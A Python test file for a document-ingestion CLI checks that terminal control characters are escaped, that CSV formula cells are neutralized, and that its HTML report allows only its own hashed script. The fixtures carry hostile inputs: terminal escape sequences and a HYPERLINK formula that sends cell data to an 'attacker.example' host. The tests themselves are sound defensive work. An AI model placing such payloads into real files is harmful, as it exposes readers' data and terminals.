"""Hostile documents meet the terminal, the spreadsheet and the browser (issue 21, point 10)."""

from __future__ import annotations

import base64
import csv
import hashlib
import json
import re
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parent.parent

#: characters a terminal acts on: ESC, BEL, CR, backspace, NUL, DEL, C1 CSI, right-to-left override,
#: left-to-right isolate, line separator
HOSTILE = "\x1b\x07\r\x08\x00\x7f\x9b\u202e\u2066\u2028"


def _write_jsonl(path: Path, records: list[dict]) -> None:
    path.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")


def _raw_controls(text: str) -> set[str]:
    return {c for c in text if c in HOSTILE}


EVIL_ID = "evil\x1b]0;owned\x07.txt"
EVIL_TEXT = "Headline\x1b[2J\x1b[H cleared\nback\rover \u202ereversed\u202c \x9b31m red\n\tindented\u2028next"


@pytest.fixture
def explained_run(tmp_path, ingest_cli):
    """A run over documents full of control characters: one kept, its exact copy dropped."""
    records = [
        {"id": EVIL_ID, "text": EVIL_TEXT, "title": "\x1b]2;title\x07", "note": "line\nbreak\x08"},
        {"id": "copy\u202e.txt", "text": EVIL_TEXT, "title": "\x1b]2;title\x07", "note": "line\nbreak\x08"},
        {"id": "other.txt", "text": "a plain document about something else entirely"},
    ]
    _write_jsonl(tmp_path / "docs.jsonl", records)
    (tmp_path / "config.toml").write_text(
        '[source]\ntype = "jsonl_files"\npath = "docs.jsonl"\n[sink]\npath = "out"\n'
        '[[pipeline]]\nstage = "dedup"\n'
    )
    result = ingest_cli("run", "-c", str(tmp_path / "config.toml"))
    assert result.exit_code == 0, result.stderr
    return tmp_path / "out"


def test_explain_escapes_control_characters(explained_run, ingest_cli):
    evil = ingest_cli("explain", EVIL_ID, "--output", str(explained_run))
    assert evil.exit_code == 0, evil.stderr
    assert _raw_controls(evil.stdout) == set()
    assert evil.stdout.startswith("evil\\x1b]0;owned\\x07.txt: ")
    assert "    + Headline\\x1b[2J\\x1b[H cleared\n" in evil.stdout  # the text's own lines stay lines
    assert "    + back\\rover \\u202ereversed\\u202c \\x9b31m red\n" in evil.stdout
    assert "    + \tindented\\u2028next\n" in evil.stdout  # a tab stays a tab

    copy = ingest_cli("explain", "copy\u202e.txt", "--output", str(explained_run))
    assert copy.exit_code == 0, copy.stderr
    assert _raw_controls(copy.stdout) == set()
    assert copy.stdout.startswith("copy\\u202e.txt: ")
    # one of the two is kept, the other dropped as its exact copy (naming it)
    kept, dropped = (evil, copy) if ": KEPT" in evil.stdout.split("\n")[0] else (copy, evil)
    assert ": KEPT" in kept.stdout.split("\n")[0]
    assert "DROPPED by stage 'dedup'" in dropped.stdout and "duplicate of" in dropped.stdout
    assert 'title: "\\u001b]2;title\\u0007"' in kept.stdout  # metadata values are shown as JSON

    # an unknown id: the similar ids offered are escaped too
    missing = ingest_cli("explain", "evil.txt", "--output", str(explained_run))
    assert missing.exit_code == 2
    assert "similar ids" in missing.stderr and "evil\\x1b]0;owned\\x07.txt" in missing.stderr
    assert _raw_controls(missing.stderr) == set()


def test_explain_json_escapes_the_same_and_parses_to_the_stored_values(explained_run, ingest_cli):
    result = ingest_cli("explain", EVIL_ID, "--output", str(explained_run), "--json")
    assert result.exit_code == 0, result.stderr
    assert _raw_controls(result.stdout) == set()
    assert "\\u202e" in result.stdout and "\\u009b" in result.stdout and "\\u001b" in result.stdout
    shown = json.loads(result.stdout)
    stored = {}
    for status, name in (("kept", "documents.jsonl"), ("dropped", "dropped.jsonl")):
        for line in (explained_run / name).read_text(encoding="utf-8").split("\n"):
            record = json.loads(line) if line else {}
            if record.get("id") == EVIL_ID:
                stored = {"status": status, **record}
    assert shown == stored
    assert shown["text"] == EVIL_TEXT


FORMULAS = {
    "=sum.txt": '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "+plus.txt": "+1+2 plus sign first",
    "-minus.txt": "-2 degrees overnight",
    "@at.txt": "@SUM(A1:A9)",
    "tab.txt": "\t=1+2 after a tab",
    "cr.txt": "\r=1+3 after a carriage return",
    "quote.txt": "'=already quoted",
    "plain.txt": "A plain story. It starts with a letter, = inside is harmless.",
}


def _csv_run(tmp_path: Path, ingest_cli, output: str, *args: str) -> dict[str, list[dict[str, str]]]:
    records = [{"id": i, "text": t, "source": t} for i, t in FORMULAS.items()]
    records.append({"id": "-copy.txt", "text": FORMULAS["=sum.txt"]})  # dropped as a copy of =sum.txt
    _write_jsonl(tmp_path / "docs.jsonl", records)
    (tmp_path / "config.toml").write_text(
        '[source]\ntype = "jsonl_files"\npath = "docs.jsonl"\n[sink]\ntype = "csv"\npath = "out"\n'
        '[[pipeline]]\nstage = "dedup"\n'
    )
    result = ingest_cli("run", "-c", str(tmp_path / "config.toml"), "--output", str(tmp_path / output), *args)
    assert result.exit_code == 0, result.stderr
    tables = {}
    for name in ("documents", "dropped"):
        with open(tmp_path / output / f"{name}.csv", encoding="utf-8", newline="") as handle:
            tables[name] = list(csv.DictReader(handle))
    return tables


def _copies(dropped: list[dict[str, str]]) -> set[frozenset[str]]:
    return {frozenset((row["id"], row["duplicate_of"])) for row in dropped}


def test_csv_cells_are_exact_by_default(tmp_path, ingest_cli):
    tables = _csv_run(tmp_path, ingest_cli, "out")
    # one of =sum.txt and its copy -copy.txt is kept, the other dropped naming it
    assert _copies(tables["dropped"]) == {frozenset(("=sum.txt", "-copy.txt"))}
    texts = {row["id"]: row["text"] for row in tables["documents"]}
    expected = {i: t for i, t in FORMULAS.items() if i != "=sum.txt"}
    expected["=sum.txt" if "=sum.txt" in texts else "-copy.txt"] = FORMULAS["=sum.txt"]
    assert texts == expected


def test_csv_neutralize_formulas_prefixes_formula_cells_reversibly(tmp_path, ingest_cli):
    exact = _csv_run(tmp_path, ingest_cli, "exact")
    safe = _csv_run(tmp_path, ingest_cli, "safe", "--set", "sink.neutralize_formulas=true")
    for name in ("documents", "dropped"):
        assert len(safe[name]) == len(exact[name])
        for safe_row, exact_row in zip(safe[name], exact[name]):
            for column, value in safe_row.items():
                # nothing a spreadsheet would evaluate is left
                assert not value or value[0] not in "=+-@\t\r", (column, value)
                if exact_row[column][:1] in ("=", "+", "-", "@", "\t", "\r", "'"):
                    assert value == "'" + exact_row[column]
                else:
                    assert value == exact_row[column]
                # one leading quote off gives the exact value back
                assert value.removeprefix("'") == exact_row[column]
    texts = {row["id"]: row["text"] for row in safe["documents"]}
    assert texts["'+plus.txt"] == "'" + FORMULAS["+plus.txt"]
    assert texts["tab.txt"] == "'" + FORMULAS["tab.txt"] and texts["cr.txt"] == "'" + FORMULAS["cr.txt"]
    assert texts["quote.txt"] == "''=already quoted"
    assert texts["plain.txt"] == FORMULAS["plain.txt"]
    assert _copies(safe["dropped"]) == {frozenset(("'=sum.txt", "'-copy.txt"))}


def test_report_html_allows_only_its_own_script(tmp_path, ingest_cli, seeds_dir):
    out = tmp_path / "out"
    result = ingest_cli("run", "-c", "/dev/null", "--input", str(seeds_dir), "--output", str(out))
    assert result.exit_code == 0, result.stderr
    page = (out / "report.html").read_text(encoding="utf-8")
    policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]*)"', page)
    assert policy is not None
    directives = dict(d.strip().split(" ", 1) for d in policy.group(1).split(";"))
    assert "unsafe-inline" not in directives["script-src"]
    scripts = re.findall(r"<script>(.*?)</script>", page, flags=re.DOTALL)
    assert len(scripts) == 1 and page.count("<script") == 1
    assert "\r" not in scripts[0]  # an HTML parser would turn it into \n before hashing
    # what a browser computes from the element's text
    digest = base64.b64encode(hashlib.sha256(scripts[0].encode("utf-8")).digest()).decode()
    assert directives["script-src"] == f"'sha256-{digest}'"
    assert directives["default-src"] == "'none'"


def test_readme_says_plugins_in_a_config_run_code():
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    section = readme[readme.index("## Config reference") : readme.index("### Sources and sinks")]
    assert "[plugins]" in section and "**A config file runs code.**" in section
    assert "`[plugins] paths` are executed as" in section.replace("\n", " ")
